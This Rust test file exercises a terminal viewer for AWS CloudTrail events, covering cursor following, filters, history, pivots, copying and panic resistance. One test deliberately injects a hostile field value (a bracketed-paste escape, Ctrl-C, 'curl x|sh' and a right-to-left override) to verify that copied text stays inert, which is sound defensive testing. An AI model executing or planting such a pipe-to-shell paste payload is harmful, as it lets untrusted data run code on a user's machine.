//! The behaviour of the whole program as scripts of keys and arrivals.

use ratatui::layout::Rect;

use crate::app::msg::Msg;
use crate::app::script::{Script, now};
use crate::app::state::{Focus, Layer};
use crate::command::action::ACTIONS;
use crate::command::chord::{Chord, Key};
use crate::command::effect::Effect;
use crate::event::field::Column;
use crate::event::time::Millis;
use crate::pane::contract::{Live, Verbs};

fn record(n: i64, name: &str, user: &str) -> String {
    let time = now() - Millis::seconds(n);
    format!(
        r#"{{"eventVersion":"1.08","eventTime":"{time}","eventID":"id-{n}-{name}","eventName":"{name}","eventSource":"iam.amazonaws.com","userIdentity":{{"type":"IAMUser","userName":"{user}"}},"responseElements":{{"credentials":{{"accessKeyId":"ASIAEXAMPLE","sessionToken":"TOPSECRET"}}}}}}"#
    )
}

/// Twenty rows, a minute apart, the oldest first.
fn twenty() -> Script {
    let mut script = Script::new(100, 20);
    let rows: Vec<String> = (0..20)
        .map(|n| record(1200 - n * 60, if n % 2 == 0 { "CreateUser" } else { "GetUser" }, "alice"))
        .collect();
    script.arrive(&rows);
    script
}

fn selected(script: &Script) -> String {
    let row = script.app.stream.selected().and_then(|id| script.app.view.snapshot.row(id));
    row.map(|row| row.text(Column::Id).to_owned()).unwrap_or_default()
}

#[test]
fn filter_follow_pause_window_and_noise_are_independent() {
    // Each toggle with the keys that do it; in every order they end in the same state.
    const TOGGLES: [&str; 5] = ["W", "k", "Space", "3", "X"];
    let mut orders = vec![vec![]];
    for _ in 0..TOGGLES.len() {
        orders = orders
            .iter()
            .flat_map(|order: &Vec<usize>| {
                (0..TOGGLES.len()).filter(|at| !order.contains(at)).map(|at| {
                    let mut next = order.clone();
                    next.push(at);
                    next
                })
            })
            .collect();
    }
    assert_eq!(orders.len(), 120);
    for order in orders {
        for kept in 0..1 << TOGGLES.len() {
            let mut script = twenty();
            for at in order.iter().filter(|at| kept >> **at & 1 == 1) {
                script.keys(TOGGLES[*at]);
            }
            let (app, on) = (&script.app, |at: usize| kept >> at & 1 == 1);
            let state = (
                app.asked.verbs != Verbs::All,
                !app.stream.follows(),
                app.paused,
                app.asked.window == 2,
                app.asked.quiet,
            );
            // `k` moves where there is a row to move from: not in a list that is empty.
            let moved = on(1);
            assert_eq!(state, (on(0), moved, on(2), on(3), on(4)), "{order:?} {kept:b}");
        }
    }
}

#[test]
fn the_cursor_stays_on_its_event() {
    let mut script = twenty();
    script.keys("k k k");
    let event = selected(&script);
    script.arrive(&[record(5000, "Older", "bob"), record(1, "Newer", "bob")]);
    assert_eq!(selected(&script), event);
    assert_eq!(script.app.live(), Live::Hold(2));
    // A filter that hides it takes the cursor to a neighbour; it comes back with its event.
    let hidden = if event.contains("Get") { "CreateUser" } else { "GetUser" };
    script.keys("/").types(&format!("event:{hidden}")).keys("Enter");
    assert_ne!(selected(&script), event);
    script.keys("\\");
    assert_eq!(selected(&script), event);
    assert_eq!(script.app.live(), Live::Hold(0), "another list is counted anew");
    // Where nothing matches nothing is selected, and nothing is shown as if it were.
    script.keys("/").types("nowhere").keys("Enter");
    assert_eq!(selected(&script), "");
    script.keys("\\");
    assert_eq!(selected(&script), event);
    script.keys("G");
    assert_eq!(script.app.live(), Live::Follow);
    script.arrive(&[record(0, "Newest", "bob")]);
    assert!(selected(&script).contains("Newest"));
}

/// Somebody who reads a row of a stream that follows reads that row to the end.
#[test]
fn a_row_that_is_read_does_not_run_away() {
    for (opens, closes) in [
        ("Enter", "Esc"),
        ("p", "Esc"),
        ("-", "Esc"),
        ("L", "Esc"),
        ("K", "Esc"),
        ("B", "Esc"),
        ("\"", "Esc"),
        (":", "Esc"),
        ("y", "z"),
        ("Enter L", "Esc Esc"),
    ] {
        let mut script = twenty();
        let event = selected(&script);
        script.keys(opens);
        script.arrive(&[record(0, "Newest", "bob")]);
        assert_eq!(selected(&script), event, "{opens}");
        assert_eq!(script.app.live(), Live::Hold(1), "{opens}");
        script.keys(closes);
        assert!(selected(&script).contains("Newest"), "{opens}: it goes on by itself");
        assert_eq!(script.app.live(), Live::Follow, "{opens}");
    }
    // What is copied is what one saw when the first key was pressed.
    let mut script = twenty();
    let event = selected(&script);
    script.keys("y");
    script.arrive(&[record(0, "Newest", "bob")]);
    script.keys("e");
    let Some(Effect::Copy(text, _)) = script.wishes.last() else { panic!("nothing is copied") };
    assert!(!text.contains("Newest") && !event.is_empty(), "{text}");
    // A view that has the body is about no row of the stream.
    script.keys("D");
    script.arrive(&[record(0, "Later", "bob")]);
    script.keys("Esc");
    assert!(selected(&script).contains("Later"));
}

#[test]
fn the_state_is_one_word() {
    let mut script = twenty();
    assert!(script.text().contains("FOLLOW"));
    script.keys("k");
    script.arrive(&[record(0, "One", "bob")]);
    assert!(script.text().contains("HOLD +1"));
    script.keys("Space");
    script.arrive(&[record(0, "Two", "bob"), record(0, "Three", "bob")]);
    assert!(script.text().contains("PAUSED +2"));
    assert_eq!(script.app.view.len(), 21);
    script.keys("/").types("event:CreateUser").keys("Enter");
    assert!(script.text().contains("PAUSED"), "a filter does not end a pause");
    assert_eq!(script.app.view.len(), 10);
    script.arrive(&[record(2, "CreateUser", "bob")]);
    assert!(script.text().contains("PAUSED +1"));
    assert_eq!(script.app.view.len(), 10);
    script.keys("Space");
    assert_eq!(script.app.view.len(), 11);
}

#[test]
fn context_shows_everything_around_and_comes_back_to_the_row() {
    let mut script = twenty();
    script.keys("/").types("event:GetUser").keys("Enter k k");
    let (event, asked) = (selected(&script), script.app.asked.clone());
    script.keys("c");
    assert_eq!((script.app.view.len(), selected(&script)), (20, event.clone()));
    script.keys("k k c");
    assert_eq!((selected(&script), &script.app.asked), (event, &asked));
}

#[test]
fn history_goes_back_and_forward_and_a_left_prompt_is_no_step() {
    let mut script = twenty();
    let filter = |script: &Script| script.app.asked.filter.clone();
    script.keys("/").types("event:GetUser").keys("Enter /").types("user:alice").keys("Enter");
    assert_eq!(filter(&script), "event:GetUser user:alice");
    script.keys("[");
    assert_eq!(filter(&script), "event:GetUser");
    script.keys("/").types("zzz");
    assert_eq!(filter(&script), "event:GetUser zzz", "rows follow while one types");
    script.keys("Esc");
    assert_eq!(filter(&script), "event:GetUser");
    script.keys("]");
    assert_eq!(filter(&script), "event:GetUser user:alice");
    script.keys("[ [");
    assert_eq!(filter(&script), "");
    script.keys("[");
    assert!(script.text().contains("no filter or view before this one"));
}

#[test]
fn an_invalid_filter_keeps_the_rows_and_is_not_applied() {
    let mut script = twenty();
    script.keys("/").types("event:GetUser (");
    assert_eq!(script.app.view.len(), 10);
    script.keys("Enter");
    assert!(matches!(script.app.layers.last(), Some(Layer::Prompt)));
    assert!(script.text().contains("! "));
    script.keys("Esc");
    assert!(script.app.layers.is_empty());
    assert_eq!((script.app.asked.filter.as_str(), script.app.view.len()), ("", 20));
}

#[test]
fn esc_never_clears_and_q_closes_one_layer_then_leaves() {
    let mut script = twenty();
    script.keys("/").types("event:GetUser").keys("Enter Esc Esc");
    assert_eq!(script.app.asked.filter, "event:GetUser");
    script.keys("Enter ?");
    assert_eq!(script.app.layers.len(), 2);
    script.keys("q");
    assert_eq!(script.app.layers.len(), 1);
    script.keys("q");
    assert!(script.app.layers.is_empty() && script.wishes.is_empty());
    script.keys("q");
    assert!(matches!(script.wishes[..], [Effect::Quit]));
}

#[test]
fn a_key_without_meaning_says_so() {
    let mut script = twenty();
    script.keys("Ctrl-x");
    assert!(script.text().contains("Ctrl-x is not bound"));
    script.keys("J");
    assert!(script.text().contains("works in details"));
}

#[test]
fn the_pivot_replaces_adds_and_excludes() {
    let filter = |keys: &str| {
        let mut script = twenty();
        script.keys("/").types("verb:W").keys("Enter");
        script.keys(keys);
        script.app.asked.filter.clone()
    };
    assert_eq!(filter("p a"), "actor:=alice");
    assert_eq!(filter("p A"), "verb:W actor:=alice");
    assert_eq!(filter("p - a"), "verb:W -actor:=alice");
    assert_eq!(filter("+ e"), "verb:W event:=CreateUser");
    assert_eq!(filter("- e"), "verb:W -event:=CreateUser");
    assert_eq!(filter("p Ctrl-u"), "verb:W", "Ctrl-u is no letter of the menu");
}

#[test]
fn every_value_in_details_becomes_a_term_that_keeps_its_row() {
    let mut script = Script::demo(120, 35, 60);
    let total = script.app.view.len();
    script.keys("g");
    for at in (0..total).step_by(7) {
        let event = selected(&script);
        for down in 0..40 {
            script.keys("Enter");
            for _ in 0..down {
                script.keys("j");
            }
            let before = script.app.asked.filter.clone();
            script.keys("+");
            if script.app.asked.filter != before {
                let ids: Vec<&str> = (0..script.app.view.len())
                    .filter_map(|at| script.app.view.row(at))
                    .map(|row| row.text(Column::Id))
                    .collect();
                let filter = &script.app.asked.filter;
                assert!(ids.contains(&event.as_str()), "{filter} loses row {at}");
                script.keys("-");
                assert!(script.app.view.is_empty() || script.app.view.len() < total);
            }
            script.keys("q \\");
            assert_eq!(script.app.asked.filter, "");
        }
        for _ in 0..7 {
            script.keys("j");
        }
    }
}

/// The texts that were copied.
fn copied(script: &Script) -> Vec<&str> {
    let mut copied = vec![];
    for wish in &script.wishes {
        if let Effect::Copy(text, _) = wish {
            copied.push(text.as_str());
        }
    }
    copied
}

#[test]
fn what_is_copied_holds_no_credentials() {
    let mut script = twenty();
    script.keys("y e y i y a y q y l");
    let copied = copied(&script);
    assert!(copied[0].contains("ASIAEXAMPLE") && !copied[0].contains("TOPSECRET"));
    assert!(copied.iter().any(|text| text.starts_with("trailtop query '' ")));
    assert!(!script.text().contains("TOPSECRET"));
    script.keys("Enter J");
    assert!(!script.text().contains("TOPSECRET"));
}

#[test]
fn what_is_copied_is_one_line_that_steers_nothing() {
    let mut script = Script::new(100, 20);
    // It ends a bracketed paste, throws the line away and types another one.
    let hostile = r"a\u001b[201~\u0003\ncurl x|sh\n\u202e";
    let call = r#"{"eventVersion":"1.08","eventTime":"2023-07-10T12:00:00Z","eventID":"X","eventName":"CreateUser","eventSource":"iam.amazonaws.com","requestParameters":{"userName":"X"},"userIdentity":{"type":"IAMUser","userName":"X","arn":"arn:X","accessKeyId":"X"}}"#;
    script.arrive(&[call.replace('X', hostile)]);
    script.keys("y i y a y t y k L y Esc p t y q");
    let copied = copied(&script);
    assert_eq!(copied.len(), 6, "{copied:?}");
    for text in copied {
        assert!(
            text.contains("curl x|sh") && !text.contains(crate::export::safe::is_unsafe),
            "{text:?}"
        );
    }
}

#[test]
fn an_evicted_row_of_a_paused_view_is_drawn_as_such() {
    let mut script = twenty();
    script.keys("Space");
    script.intake.drain(now());
    script.arrive(&[record(0, "Newest", "bob")]);
    assert_eq!(script.app.view.len(), 20);
    assert!(script.text().contains("evicted: its bytes made room"));
    script.keys("k k Enter");
    script.draw();
    script.keys("q Space");
    assert_eq!(script.app.view.len(), 1);
}

#[test]
fn no_key_in_no_layer_at_no_size_panics() {
    const LAYERS: [&str; 14] = [
        "Esc",
        "Enter",
        "Enter Ctrl-f",
        "/",
        "p",
        ":",
        "?",
        "s",
        "~",
        "b Tab",
        "i Tab v",
        "T",
        "T j Tab",
        "b Tab Ctrl-f",
    ];
    const SIZES: [(u16, u16); 6] = [(0, 0), (1, 1), (5, 2), (80, 24), (120, 35), (200, 50)];
    let keys: Vec<&str> = ACTIONS.iter().flat_map(|row| row.keys.iter().copied()).collect();
    for with_rows in [true, false] {
        for layer in LAYERS {
            let mut script = if with_rows { twenty() } else { Script::new(80, 24) };
            for (at, key) in keys.iter().enumerate() {
                script.app.layers.clear();
                script.app.focus = Focus::Stream;
                script.app.panes = Default::default();
                let (width, height) = SIZES[at % SIZES.len()];
                script.tell(Msg::Size(Rect::new(0, 0, width, height)));
                script.keys(layer).keys(key);
                for (width, height) in SIZES {
                    script.tell(Msg::Size(Rect::new(0, 0, width, height)));
                    script.draw();
                }
                script.press(Chord::plain(Key::Esc));
                script.app.paused = false;
            }
        }
    }
}
